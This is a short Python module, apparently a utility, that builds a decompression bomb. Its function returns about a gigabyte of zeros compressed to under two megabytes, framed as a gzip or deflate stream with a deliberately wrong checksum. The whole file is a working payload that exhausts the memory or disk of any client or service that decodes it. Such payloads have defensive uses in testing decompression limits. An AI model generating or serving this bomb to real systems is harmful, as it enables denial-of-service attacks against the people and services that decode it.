"""A gigabyte in a megabyte."""

from __future__ import annotations

import zlib

_MIB = 2**20
_TIMES = 1024
#: What stands before a deflate stream and how many bytes of checks behind it; the last of which a reader never sees.
_FRAMES = {"gzip": (b"\x1f\x8b\x08\0\0\0\0\0\0\xff", 8), "deflate": (b"\x78\xda", 4)}


def bomb(encoding: str) -> bytes:
    """Return a gigabyte of zeros in "gzip" or "deflate"; its checksum is wrong.

    >>> len(bomb("gzip")) < 2**21
    True
    """
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    # Blocks that do not refer to one another can be repeated.
    block = compressor.compress(bytes(_MIB)) + compressor.flush(zlib.Z_FULL_FLUSH)
    opening, check_bytes = _FRAMES[encoding]
    return opening + block * _TIMES + compressor.flush() + bytes(check_bytes)
